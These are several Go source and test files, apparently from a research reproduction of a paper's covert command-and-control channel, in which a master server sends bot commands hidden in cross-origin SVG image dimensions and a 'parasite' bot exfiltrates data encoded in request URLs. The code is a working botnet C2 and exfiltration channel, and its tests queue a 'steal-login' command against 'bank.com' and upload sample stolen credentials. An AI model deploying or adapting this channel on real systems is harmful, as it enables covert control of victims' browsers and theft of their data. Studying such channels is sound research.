		t.Fatalf("large command corrupted: %d bytes", len(got))
	}
}

func TestMasterUnfinishedUploadInvisible(t *testing.T) {
	master := NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = shutdown() }()
	bot := &Bot{BaseURL: base, ID: "b"}
	ctx := context.Background()
	// Send one chunk manually without fin.
	chunk := EncodeURLChunks([]byte("partial"), 0)[0]
	if err := bot.get(ctx, base+"/up/b/s/0/"+chunk); err != nil {
		t.Fatal(err)
	}
	if _, ok := master.Upload("b", "s"); ok {
		t.Fatal("unfinished stream visible")
	}
}
