package cnc

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"testing"
	"testing/quick"
	"time"
)

func TestDimsRoundTrip(t *testing.T) {
	for _, msg := range [][]byte{nil, {}, []byte("x"), []byte("abcd"), []byte("hello world, this is the master speaking")} {
		dims := EncodeDims(msg)
		got, err := DecodeDims(dims)
		if err != nil {
			t.Fatalf("decode %q: %v", msg, err)
		}
		if !bytes.Equal(got, msg) {
			t.Fatalf("round trip %q -> %q", msg, got)
		}
	}
}

func TestDimsRoundTripProperty(t *testing.T) {
	f := func(msg []byte) bool {
		got, err := DecodeDims(EncodeDims(msg))
		return err == nil && bytes.Equal(got, msg)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestImagesNeededMatchesEncoder(t *testing.T) {
	for n := 0; n < 64; n++ {
		msg := bytes.Repeat([]byte("a"), n)
		if got, want := len(EncodeDims(msg)), ImagesNeeded(n); got != want {
			t.Fatalf("n=%d: encoder %d images, ImagesNeeded %d", n, got, want)
		}
	}
}

func TestFourBytesPerImage(t *testing.T) {
	// 60 payload bytes + 4 length prefix = 64 bytes = 16 images.
	if got := len(EncodeDims(make([]byte, 60))); got != 16 {
		t.Fatalf("images = %d, want 16", got)
	}
}

func TestDecodeTruncated(t *testing.T) {
	dims := EncodeDims([]byte("a long enough message"))
	if _, err := DecodeDims(dims[:2]); err == nil {
		t.Fatal("truncated stream decoded")
	}
	if _, err := DecodeDims(nil); err == nil {
		t.Fatal("empty stream decoded")
	}
}

func TestClamp(t *testing.T) {
	cases := map[int]uint16{-5: 0, 0: 0, 100: 100, 65535: 65535, 70000: 65535}
	for in, want := range cases {
		if got := Clamp(in); got != want {
			t.Errorf("Clamp(%d) = %d, want %d", in, got, want)
		}
	}
}

func TestSVGRoundTripAndSize(t *testing.T) {
	d := Dim{W: 513, H: 65535}
	svg := RenderSVG(d)
	// The paper: "An SVG image, having no actual content, is of size 100
	// bytes" — ours must stay in that ballpark for the overhead math.
	if len(svg) > 120 {
		t.Fatalf("svg size = %d bytes, want ≤120", len(svg))
	}
	got, err := ParseSVG(svg)
	if err != nil {
		t.Fatal(err)
	}
	if got != d {
		t.Fatalf("round trip %+v -> %+v", d, got)
	}
}

func TestSVGDimRoundTripProperty(t *testing.T) {
	f := func(w, h uint16) bool {
		got, err := ParseSVG(RenderSVG(Dim{W: w, H: h}))
		return err == nil && got == Dim{W: w, H: h}
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestParseSVGClampsOversize(t *testing.T) {
	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="70000" height="3"></svg>`)
	d, err := ParseSVG(svg)
	if err != nil {
		t.Fatal(err)
	}
	if d.W != MaxDim {
		t.Fatalf("width = %d, want clamped %d", d.W, MaxDim)
	}
}

func TestParseSVGRejectsGarbage(t *testing.T) {
	if _, err := ParseSVG([]byte("<html>not an svg</html>")); err == nil {
		t.Fatal("garbage parsed as SVG")
	}
}

func TestURLChunksRoundTrip(t *testing.T) {
	data := bytes.Repeat([]byte("credential-dump "), 200) // 3200 bytes
	chunks := EncodeURLChunks(data, 1024)
	if len(chunks) != 4 {
		t.Fatalf("chunks = %d, want 4", len(chunks))
	}
	var got []byte
	for _, c := range chunks {
		part, err := DecodeURLChunk(c)
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, part...)
	}
	if !bytes.Equal(got, data) {
		t.Fatal("upstream round trip corrupted")
	}
}

func TestURLChunksRoundTripProperty(t *testing.T) {
	f := func(data []byte, size uint8) bool {
		chunks := EncodeURLChunks(data, int(size))
		var got []byte
		for _, c := range chunks {
			part, err := DecodeURLChunk(c)
			if err != nil {
				return false
			}
			got = append(got, part...)
		}
		return bytes.Equal(got, data) || (len(data) == 0 && len(got) == 0)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestURLChunkRejectsBadBase64(t *testing.T) {
	if _, err := DecodeURLChunk("!!!not-base64!!!"); err == nil {
		t.Fatal("bad chunk decoded")
	}
}

func TestMasterBotEndToEnd(t *testing.T) {
	t.Parallel()
	master := NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := shutdown(); err != nil {
			t.Errorf("shutdown: %v", err)
		}
	}()

	bot := &Bot{BaseURL: base, ID: "bot-1", Concurrency: 4}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()

	// Nothing pending yet.
	if _, _, ok, err := bot.Poll(ctx); err != nil || ok {
		t.Fatalf("empty poll: ok=%v err=%v", ok, err)
	}

	// Downstream command.
	cmd := []byte(`{"module":"steal-login","target":"bank.com"}`)
	id := master.QueueCommand("bot-1", cmd)
	got, gotID, ok, err := bot.Poll(ctx)
	if err != nil || !ok {
		t.Fatalf("poll: ok=%v err=%v", ok, err)
	}
	if gotID != id || !bytes.Equal(got, cmd) {
		t.Fatalf("poll got id=%d %q", gotID, got)
	}

	// Same command not re-delivered.
	if _, _, ok, err := bot.Poll(ctx); err != nil || ok {
		t.Fatalf("re-poll: ok=%v err=%v", ok, err)
	}

	// Upstream exfiltration.
	loot := bytes.Repeat([]byte("user=alice&pass=hunter2;"), 300)
	if err := bot.Upload(ctx, "creds", loot); err != nil {
		t.Fatalf("upload: %v", err)
	}
	up, ok := master.Upload("bot-1", "creds")
	if !ok || !bytes.Equal(up, loot) {
		t.Fatalf("master upload: ok=%v len=%d want %d", ok, len(up), len(loot))
	}
	if streams := master.Streams("bot-1"); len(streams) != 1 || streams[0] != "creds" {
		t.Fatalf("streams = %v", streams)
	}
	if bots := master.Bots(); len(bots) != 1 || bots[0] != "bot-1" {
		t.Fatalf("bots = %v", bots)
	}
}

func TestMasterLargeCommandManyImages(t *testing.T) {
	t.Parallel()
	master := NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = shutdown() }()
	size := 8192 // 2049 images
	if testing.Short() {
		size = 1024 // the CI race run keeps the shape, not the volume
	}
	cmd := bytes.Repeat([]byte("X"), size)
	master.QueueCommand("b", cmd)
	bot := &Bot{BaseURL: base, ID: "b", Concurrency: 16}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	got, _, ok, err := bot.Poll(ctx)
	if err != nil || !ok {
		t.Fatalf("poll: %v", err)
	}
	if !bytes.Equal(got, cmd) {
		t.Fatalf("large command corrupted: %d bytes", len(got))
	}
}

func TestMasterUnfinishedUploadInvisible(t *testing.T) {
	t.Parallel()
	master := NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = shutdown() }()
	bot := &Bot{BaseURL: base, ID: "b"}
	ctx := context.Background()
	// Send one chunk manually without fin.
	chunk := EncodeURLChunks([]byte("partial"), 0)[0]
	if err := bot.get(ctx, base+"/up/b/s/0/"+chunk); err != nil {
		t.Fatal(err)
	}
	if _, ok := master.Upload("b", "s"); ok {
		t.Fatal("unfinished stream visible")
	}
}

func TestBatchSVGRoundTrip(t *testing.T) {
	dims := EncodeDims(bytes.Repeat([]byte("batchy payload"), 40))
	doc := AppendBatchSVG(nil, dims)
	got, err := ParseBatchSVG(nil, doc)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(dims) {
		t.Fatalf("tiles = %d, want %d", len(got), len(dims))
	}
	for i := range dims {
		if got[i] != dims[i] {
			t.Fatalf("tile %d = %+v, want %+v", i, got[i], dims[i])
		}
	}
	// A plain channel SVG decodes as a batch of one.
	one, err := ParseBatchSVG(nil, RenderSVG(Dim{W: 7, H: 9}))
	if err != nil || len(one) != 1 || one[0] != (Dim{W: 7, H: 9}) {
		t.Fatalf("single parse = %v err=%v", one, err)
	}
	// Garbage stays garbage.
	if _, err := ParseBatchSVG(nil, []byte("<html>nope</html>")); err == nil {
		t.Fatal("garbage parsed as batch")
	}
}

func TestParseSVGOnBatchDocYieldsFirstTile(t *testing.T) {
	// The single-image parser scans past the dimensionless sprite wrapper
	// to the first tile, mirroring the historical regexp behaviour.
	doc := AppendBatchSVG(nil, []Dim{{W: 11, H: 22}, {W: 33, H: 44}})
	d, err := ParseSVG(doc)
	if err != nil || d != (Dim{W: 11, H: 22}) {
		t.Fatalf("ParseSVG(batch) = %+v err=%v", d, err)
	}
}

func TestMasterBatchRoute(t *testing.T) {
	master := NewMasterServer()
	payload := bytes.Repeat([]byte("Z"), 300) // 76 images
	id := master.QueueCommand("b", payload)
	want := EncodeDims(payload)

	status, ctype, body := master.Route(fmt.Sprintf("/batch/b/%d/0/64.svg", id), nil)
	if status != 200 || ctype != "image/svg+xml" {
		t.Fatalf("batch status=%d ctype=%q", status, ctype)
	}
	head, err := ParseBatchSVG(nil, body)
	if err != nil || len(head) != 64 {
		t.Fatalf("head batch = %d tiles err=%v", len(head), err)
	}
	// The final short batch is truncated to the command's image count.
	status, _, body = master.Route(fmt.Sprintf("/batch/b/%d/64/64.svg", id), nil)
	if status != 200 {
		t.Fatalf("tail status = %d", status)
	}
	tail, err := ParseBatchSVG(nil, body)
	if err != nil || len(tail) != len(want)-64 {
		t.Fatalf("tail batch = %d tiles, want %d (err=%v)", len(tail), len(want)-64, err)
	}
	got, err := DecodeDims(append(head, tail...))
	if err != nil || !bytes.Equal(got, payload) {
		t.Fatalf("batched round trip corrupted: err=%v", err)
	}
	// Out-of-range and malformed refs fail like the per-image route.
	if status, _, _ := master.Route(fmt.Sprintf("/batch/b/%d/999/4.svg", id), nil); status != 404 {
		t.Fatalf("oob from status = %d, want 404", status)
	}
	if status, _, _ := master.Route("/batch/b/nope/0/4.svg", nil); status != 400 {
		t.Fatalf("bad id status = %d, want 400", status)
	}
}

func TestRouteMatchesServeHTTPWire(t *testing.T) {
	// Route is served both over net/http and over httpsim; the adapter
	// relies on Route's status/content-type/body matching what ServeHTTP
	// puts on a real socket.
	master := NewMasterServer()
	master.QueueCommand("b", []byte("hello"))
	for _, path := range []string{
		"/meta/b.svg", "/img/b/1/0.svg", "/img/b/1/99.svg", "/img/b/zzz/0.svg",
		"/batch/b/1/0/2.svg", "/up/b/s/0/aGk", "/up/b/s/fin", "/nonsense", "/",
	} {
		status, _, body := master.Route(path, nil)
		req := httptest.NewRequest(http.MethodGet, path, nil)
		rec := httptest.NewRecorder()
		master.ServeHTTP(rec, req)
		if rec.Code != status || !bytes.Equal(rec.Body.Bytes(), body) {
			t.Fatalf("%s: Route (%d, %q) != ServeHTTP (%d, %q)",
				path, status, body, rec.Code, rec.Body.Bytes())
		}
	}
}

// TestStreamingCodecAllocs locks the Append-form codecs at zero
// allocations once their destination buffers are warm. Skipped in -short
// mode: the CI race detector perturbs counts.
func TestStreamingCodecAllocs(t *testing.T) {
	if testing.Short() {
		t.Skip("allocation counts shift under -race; tier-1 runs this")
	}
	msg := bytes.Repeat([]byte("m"), 1024)
	dims := make([]Dim, 0, ImagesNeeded(len(msg)))
	buf := make([]byte, 0, 4096)
	chunk := AppendURLChunk(nil, msg)

	if got := testing.AllocsPerRun(200, func() {
		dims = AppendDims(dims[:0], msg)
	}); got > 0 {
		t.Errorf("AppendDims allocs/op = %.1f, want 0", got)
	}
	dims = AppendDims(dims[:0], msg)
	if got := testing.AllocsPerRun(200, func() {
		out, err := AppendDecodeDims(buf[:0], dims)
		if err != nil || len(out) != len(msg) {
			t.Fatalf("decode: %v (%d bytes)", err, len(out))
		}
	}); got > 0 {
		t.Errorf("AppendDecodeDims allocs/op = %.1f, want 0", got)
	}
	if got := testing.AllocsPerRun(200, func() {
		buf = AppendSVG(buf[:0], Dim{W: 513, H: 65535})
		if _, err := ParseSVG(buf); err != nil {
			t.Fatal(err)
		}
	}); got > 0 {
		t.Errorf("SVG append+parse allocs/op = %.1f, want 0", got)
	}
	if got := testing.AllocsPerRun(200, func() {
		buf = AppendURLChunk(buf[:0], msg)
	}); got > 0 {
		t.Errorf("AppendURLChunk allocs/op = %.1f, want 0", got)
	}
	if got := testing.AllocsPerRun(200, func() {
		out, err := AppendDecodeURLChunk(buf[:0], string(chunk))
		if err != nil || len(out) != len(msg) {
			t.Fatalf("chunk decode: %v", err)
		}
	}); got > 1 { // string(chunk) conversion is the measured op's input
		t.Errorf("AppendDecodeURLChunk allocs/op = %.1f, want ≤1", got)
	}
}

func TestURLChunkAppendMatchesEncode(t *testing.T) {
	data := bytes.Repeat([]byte("exfil!"), 333)
	want := EncodeURLChunks(data, len(data))[0]
	if got := string(AppendURLChunk(nil, data)); got != want {
		t.Fatalf("AppendURLChunk = %q, want %q", got, want)
	}
	dec, err := AppendDecodeURLChunk(nil, want)
	if err != nil || !bytes.Equal(dec, data) {
		t.Fatalf("AppendDecodeURLChunk round trip failed: %v", err)
	}
	if _, err := AppendDecodeURLChunk(nil, "!!!not-base64!!!"); err == nil {
		t.Fatal("bad chunk decoded")
	}
}

func TestBatchRouteOverflowCountSafe(t *testing.T) {
	// A crafted count near MaxInt must not wrap the bounds check into a
	// slice panic; the batch is truncated to what the command holds.
	master := NewMasterServer()
	id := master.QueueCommand("b", []byte("hello world"))
	status, _, body := master.Route(fmt.Sprintf("/batch/b/%d/1/9223372036854775807.svg", id), nil)
	if status != 200 {
		t.Fatalf("status = %d, want 200", status)
	}
	got, err := ParseBatchSVG(nil, body)
	want := ImagesNeeded(len("hello world")) - 1
	if err != nil || len(got) != want {
		t.Fatalf("tiles = %d err=%v, want %d", len(got), err, want)
	}
}

func TestParseSVGBacktracksPastDigitlessAttr(t *testing.T) {
	// The historical regexp backtracked past a digitless width attribute
	// to a later well-formed pair; the hand-written scan must too.
	d, err := ParseSVG([]byte(`<svg width="" width="5" height="6"></svg>`))
	if err != nil || d != (Dim{W: 5, H: 6}) {
		t.Fatalf("ParseSVG = %+v err=%v, want {5 6}", d, err)
	}
}

func TestParseSVGOverflowOnlyFailsWinningMatch(t *testing.T) {
	// Regexp semantics: matching is structural and Atoi only ever ran on
	// the winning match's captures. An overflowing candidate that the
	// pattern backtracks past must not abort the parse...
	d, err := ParseSVG([]byte(`<svg width="99999999999999999999" height="x" width="5" height="6"></svg>`))
	if err != nil || d != (Dim{W: 5, H: 6}) {
		t.Fatalf("ParseSVG = %+v err=%v, want {5 6}", d, err)
	}
	// ...but an overflowing run on the structurally-first full match is
	// exactly where Atoi used to fail.
	if _, err := ParseSVG([]byte(`<svg width="99999999999999999999" height="6"></svg>`)); err == nil {
		t.Fatal("overflowing winning match parsed")
	}
}

func TestPollWithLargeBatchSize(t *testing.T) {
	// A sprite bigger than the old fixed 64 KB read cap must still
	// decode: the read limit scales with the configured batch size.
	t.Parallel()
	master := NewMasterServer()
	base, shutdown, err := master.Serve()
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = shutdown() }()
	cmd := bytes.Repeat([]byte{0xff}, 8188) // 2048 images, all dims 65535
	master.QueueCommand("big", cmd)
	bot := &Bot{BaseURL: base, ID: "big", Concurrency: 4, BatchSize: 2048}
	got, _, ok, err := bot.Poll(context.Background())
	if err != nil || !ok || !bytes.Equal(got, cmd) {
		t.Fatalf("large-batch poll: ok=%v err=%v", ok, err)
	}
}
