package cnc

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"sync"
)

// Bot is the parasite-side endpoint of the covert channel, used over a
// real HTTP connection (the loopback experiments and the cmd/master
// tool). Inside the packet simulation the parasite package reimplements
// the same protocol over httpsim using this package's codec.
type Bot struct {
	// BaseURL is the master's base URL, e.g. "http://127.0.0.1:8080".
	BaseURL string
	// ID identifies the bot to the master.
	ID string
	// Client is the HTTP client; http.DefaultClient when nil.
	Client *http.Client
	// Concurrency is the number of parallel image fetches during Poll.
	// The paper's 100 KB/s figure depends on "a client which sends
	// requests for multiple images simultaneously"; 1 disables
	// parallelism (the ablation). Default 8.
	Concurrency int
	// BatchSize is how many covert images ride in one sprite request
	// (the /batch route). It models a browser multiplexing that many
	// simultaneous image fetches over one connection. Default 64; 1
	// degrades to one image per request.
	BatchSize int

	lastSeen int
}

func (b *Bot) client() *http.Client {
	if b.Client != nil {
		return b.Client
	}
	return http.DefaultClient
}

func (b *Bot) concurrency() int {
	if b.Concurrency > 0 {
		return b.Concurrency
	}
	return 8
}

func (b *Bot) batchSize() int {
	if b.BatchSize > 0 {
		return b.BatchSize
	}
	return 64
}

// fetchBody retrieves a channel response body of at most limit bytes.
func (b *Bot) fetchBody(ctx context.Context, url string, limit int64) ([]byte, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return nil, fmt.Errorf("cnc bot: %w", err)
	}
	resp, err := b.client().Do(req)
	if err != nil {
		return nil, fmt.Errorf("cnc bot fetch: %w", err)
	}
	defer func() { _ = resp.Body.Close() }()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("cnc bot fetch %s: status %d", url, resp.StatusCode)
	}
	body, err := io.ReadAll(io.LimitReader(resp.Body, limit))
	if err != nil {
		return nil, fmt.Errorf("cnc bot read: %w", err)
	}
	return body, nil
}

func (b *Bot) fetchSVG(ctx context.Context, url string) (Dim, error) {
	body, err := b.fetchBody(ctx, url, 4096)
	if err != nil {
		return Dim{}, err
	}
	return ParseSVG(body)
}

// Poll checks the master for a new command. ok is false when nothing new
// is pending.
func (b *Bot) Poll(ctx context.Context) (payload []byte, id int, ok bool, err error) {
	meta, err := b.fetchSVG(ctx, fmt.Sprintf("%s/meta/%s.svg", b.BaseURL, b.ID))
	if err != nil {
		return nil, 0, false, err
	}
	cmdID, count := int(meta.W), int(meta.H)
	if cmdID == 0 || cmdID == b.lastSeen {
		return nil, 0, false, nil
	}
	dims, err := b.fetchImages(ctx, cmdID, count)
	if err != nil {
		return nil, 0, false, err
	}
	data, err := DecodeDims(dims)
	if err != nil {
		return nil, 0, false, err
	}
	b.lastSeen = cmdID
	return data, cmdID, true, nil
}

// fetchImages retrieves the command's image sequence: sprite batches of
// BatchSize images each, fetched in parallel. One sprite request carries
// what would otherwise be BatchSize round trips, so the downstream path
// is no longer re-encoding (and re-fetching) per 4-byte chunk.
func (b *Bot) fetchImages(ctx context.Context, cmdID, count int) ([]Dim, error) {
	dims := make([]Dim, 0, count)
	bs := b.batchSize()
	nBatches := (count + bs - 1) / bs
	batches := make([][]Dim, nBatches)
	errs := make([]error, nBatches)
	sem := make(chan struct{}, b.concurrency())
	var wg sync.WaitGroup
	for bi := 0; bi < nBatches; bi++ {
		wg.Add(1)
		go func(bi int) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			from := bi * bs
			n := bs
			if from+n > count {
				n = count - from
			}
			url := fmt.Sprintf("%s/batch/%s/%d/%d/%d.svg", b.BaseURL, b.ID, cmdID, from, n)
			// The read limit scales with the batch: each tile is at most
			// maxTileLen bytes, so large BatchSize configurations are not
			// silently truncated into tile-count mismatches.
			limit := int64(n*maxTileLen + 256)
			body, err := b.fetchBody(ctx, url, limit)
			if err != nil {
				errs[bi] = err
				return
			}
			got, err := ParseBatchSVG(make([]Dim, 0, n), body)
			if err == nil && len(got) != n {
				err = fmt.Errorf("cnc bot batch %s: %d images, want %d", url, len(got), n)
			}
			batches[bi], errs[bi] = got, err
		}(bi)
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			return nil, err
		}
	}
	for _, batch := range batches {
		dims = append(dims, batch...)
	}
	return dims, nil
}

// Upload exfiltrates data to the master under a stream name, encoded
// entirely in request URLs. Each URL is assembled in one pass — prefix
// and base64 chunk append into a single buffer — instead of
// materialising the chunk string and then formatting it again.
func (b *Bot) Upload(ctx context.Context, stream string, data []byte) error {
	nChunks := (len(data) + DefaultChunkSize - 1) / DefaultChunkSize
	if nChunks == 0 {
		nChunks = 1
	}
	urls := make([]string, nChunks)
	var buf []byte
	for seq := 0; seq < nChunks; seq++ {
		chunk := data[seq*DefaultChunkSize:]
		if len(chunk) > DefaultChunkSize {
			chunk = chunk[:DefaultChunkSize]
		}
		buf = append(buf[:0], b.BaseURL...)
		buf = append(buf, "/up/"...)
		buf = append(buf, b.ID...)
		buf = append(buf, '/')
		buf = append(buf, stream...)
		buf = append(buf, '/')
		buf = strconv.AppendInt(buf, int64(seq), 10)
		buf = append(buf, '/')
		buf = AppendURLChunk(buf, chunk)
		urls[seq] = string(buf)
	}
	sem := make(chan struct{}, b.concurrency())
	errs := make([]error, len(urls))
	var wg sync.WaitGroup
	for seq, url := range urls {
		wg.Add(1)
		go func(seq int, url string) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			errs[seq] = b.get(ctx, url)
		}(seq, url)
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return b.get(ctx, fmt.Sprintf("%s/up/%s/%s/fin", b.BaseURL, b.ID, stream))
}

func (b *Bot) get(ctx context.Context, url string) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return fmt.Errorf("cnc bot: %w", err)
	}
	resp, err := b.client().Do(req)
	if err != nil {
		return fmt.Errorf("cnc bot upload: %w", err)
	}
	defer func() { _ = resp.Body.Close() }()
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		return fmt.Errorf("cnc bot drain: %w", err)
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("cnc bot upload %s: status %d", url, resp.StatusCode)
	}
	return nil
}
