package cnc

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"sync"
)

// Bot is the parasite-side endpoint of the covert channel, used over a
// real HTTP connection (the loopback experiments and the cmd/master
// tool). Inside the packet simulation the parasite package reimplements
// the same protocol over httpsim using this package's codec.
type Bot struct {
	// BaseURL is the master's base URL, e.g. "http://127.0.0.1:8080".
	BaseURL string
	// ID identifies the bot to the master.
	ID string
	// Client is the HTTP client; http.DefaultClient when nil.
	Client *http.Client
	// Concurrency is the number of parallel image fetches during Poll.
	// The paper's 100 KB/s figure depends on "a client which sends
	// requests for multiple images simultaneously"; 1 disables
	// parallelism (the ablation). Default 8.
	Concurrency int

	lastSeen int
}

func (b *Bot) client() *http.Client {
	if b.Client != nil {
		return b.Client
	}
	return http.DefaultClient
}

func (b *Bot) concurrency() int {
	if b.Concurrency > 0 {
		return b.Concurrency
	}
	return 8
}

func (b *Bot) fetchSVG(ctx context.Context, url string) (Dim, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return Dim{}, fmt.Errorf("cnc bot: %w", err)
	}
	resp, err := b.client().Do(req)
	if err != nil {
		return Dim{}, fmt.Errorf("cnc bot fetch: %w", err)
	}
	defer func() { _ = resp.Body.Close() }()
	if resp.StatusCode != http.StatusOK {
		return Dim{}, fmt.Errorf("cnc bot fetch %s: status %d", url, resp.StatusCode)
	}
	body, err := io.ReadAll(io.LimitReader(resp.Body, 4096))
	if err != nil {
		return Dim{}, fmt.Errorf("cnc bot read: %w", err)
	}
	return ParseSVG(body)
}

// Poll checks the master for a new command. ok is false when nothing new
// is pending.
func (b *Bot) Poll(ctx context.Context) (payload []byte, id int, ok bool, err error) {
	meta, err := b.fetchSVG(ctx, fmt.Sprintf("%s/meta/%s.svg", b.BaseURL, b.ID))
	if err != nil {
		return nil, 0, false, err
	}
	cmdID, count := int(meta.W), int(meta.H)
	if cmdID == 0 || cmdID == b.lastSeen {
		return nil, 0, false, nil
	}
	dims, err := b.fetchImages(ctx, cmdID, count)
	if err != nil {
		return nil, 0, false, err
	}
	data, err := DecodeDims(dims)
	if err != nil {
		return nil, 0, false, err
	}
	b.lastSeen = cmdID
	return data, cmdID, true, nil
}

// fetchImages retrieves the command's image sequence, in parallel.
func (b *Bot) fetchImages(ctx context.Context, cmdID, count int) ([]Dim, error) {
	dims := make([]Dim, count)
	errs := make([]error, count)
	sem := make(chan struct{}, b.concurrency())
	var wg sync.WaitGroup
	for seq := 0; seq < count; seq++ {
		wg.Add(1)
		go func(seq int) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			url := fmt.Sprintf("%s/img/%s/%d/%d.svg", b.BaseURL, b.ID, cmdID, seq)
			d, err := b.fetchSVG(ctx, url)
			dims[seq] = d
			errs[seq] = err
		}(seq)
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			return nil, err
		}
	}
	return dims, nil
}

// Upload exfiltrates data to the master under a stream name, encoded
// entirely in request URLs.
func (b *Bot) Upload(ctx context.Context, stream string, data []byte) error {
	chunks := EncodeURLChunks(data, DefaultChunkSize)
	sem := make(chan struct{}, b.concurrency())
	errs := make([]error, len(chunks))
	var wg sync.WaitGroup
	for seq, chunk := range chunks {
		wg.Add(1)
		go func(seq int, chunk string) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			url := fmt.Sprintf("%s/up/%s/%s/%s/%s", b.BaseURL, b.ID, stream, strconv.Itoa(seq), chunk)
			errs[seq] = b.get(ctx, url)
		}(seq, chunk)
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return b.get(ctx, fmt.Sprintf("%s/up/%s/%s/fin", b.BaseURL, b.ID, stream))
}

func (b *Bot) get(ctx context.Context, url string) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return fmt.Errorf("cnc bot: %w", err)
	}
	resp, err := b.client().Do(req)
	if err != nil {
		return fmt.Errorf("cnc bot upload: %w", err)
	}
	defer func() { _ = resp.Body.Close() }()
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		return fmt.Errorf("cnc bot drain: %w", err)
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("cnc bot upload %s: status %d", url, resp.StatusCode)
	}
	return nil
}
