// Package cnc implements the paper's bi-directional command-and-control
// channel (§VI-C, Fig. 4).
//
// Downstream (master → parasite) the channel abuses an HTTP information
// leak: when a page issues a cross-origin image request, the Same Origin
// Policy hides the pixels but exposes the image *dimensions* so the page
// can lay itself out. Each image therefore leaks two values in [0,65535]
// — 4 bytes. The images are SVG so the wire cost stays around 100 bytes
// per 4 payload bytes, and fetching many images concurrently yields a
// usable channel (the paper measures 100 KB/s).
//
// Upstream (parasite → master) data is encoded into request URLs, which
// carries no comparable bandwidth limit.
package cnc

import (
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"regexp"
	"strconv"
)

// MaxDim is the largest dimension browsers accept; anything larger is
// downgraded to this value ("once the dimension is over 65,535, the
// browsers will downgrade it to this value"), so the alphabet per axis is
// [0, 65535].
const MaxDim = 65535

// BytesPerImage is the payload each image carries: two uint16 dimensions.
const BytesPerImage = 4

// Dim is one image's width and height.
type Dim struct {
	W uint16
	H uint16
}

// Clamp applies the browser downgrade rule to an arbitrary dimension.
func Clamp(v int) uint16 {
	if v < 0 {
		return 0
	}
	if v > MaxDim {
		return MaxDim
	}
	return uint16(v)
}

// EncodeDims converts a message into a sequence of image dimensions. The
// message is framed with a 4-byte big-endian length prefix so the decoder
// can strip padding.
func EncodeDims(msg []byte) []Dim {
	framed := make([]byte, 4+len(msg))
	binary.BigEndian.PutUint32(framed[:4], uint32(len(msg)))
	copy(framed[4:], msg)
	// Pad to a multiple of BytesPerImage.
	for len(framed)%BytesPerImage != 0 {
		framed = append(framed, 0)
	}
	dims := make([]Dim, 0, len(framed)/BytesPerImage)
	for i := 0; i < len(framed); i += BytesPerImage {
		dims = append(dims, Dim{
			W: binary.BigEndian.Uint16(framed[i : i+2]),
			H: binary.BigEndian.Uint16(framed[i+2 : i+4]),
		})
	}
	return dims
}

// Errors returned by the decoders.
var (
	ErrTruncated = errors.New("cnc: truncated dimension stream")
	ErrBadSVG    = errors.New("cnc: not a channel SVG")
)

// DecodeDims reverses EncodeDims.
func DecodeDims(dims []Dim) ([]byte, error) {
	raw := make([]byte, 0, len(dims)*BytesPerImage)
	for _, d := range dims {
		var quad [4]byte
		binary.BigEndian.PutUint16(quad[0:2], d.W)
		binary.BigEndian.PutUint16(quad[2:4], d.H)
		raw = append(raw, quad[:]...)
	}
	if len(raw) < 4 {
		return nil, fmt.Errorf("%w: %d bytes", ErrTruncated, len(raw))
	}
	n := binary.BigEndian.Uint32(raw[:4])
	if int(n) > len(raw)-4 {
		return nil, fmt.Errorf("%w: frame wants %d bytes, have %d", ErrTruncated, n, len(raw)-4)
	}
	return raw[4 : 4+n], nil
}

// ImagesNeeded reports how many images carry a message of n bytes.
func ImagesNeeded(n int) int {
	framed := n + 4
	return (framed + BytesPerImage - 1) / BytesPerImage
}

// RenderSVG produces the ~100-byte SVG whose only information content is
// its dimensions ("An SVG image, having no actual content, is of size 100
// bytes").
func RenderSVG(d Dim) []byte {
	return []byte(fmt.Sprintf(
		`<svg xmlns="http://www.w3.org/2000/svg" width="%d" height="%d"></svg>`,
		d.W, d.H))
}

var svgDimRe = regexp.MustCompile(`<svg[^>]*\swidth="(\d+)"\s+height="(\d+)"`)

// ParseSVG extracts the dimensions from a channel SVG, applying the
// browser clamp — this is what the victim browser exposes to the page.
func ParseSVG(svg []byte) (Dim, error) {
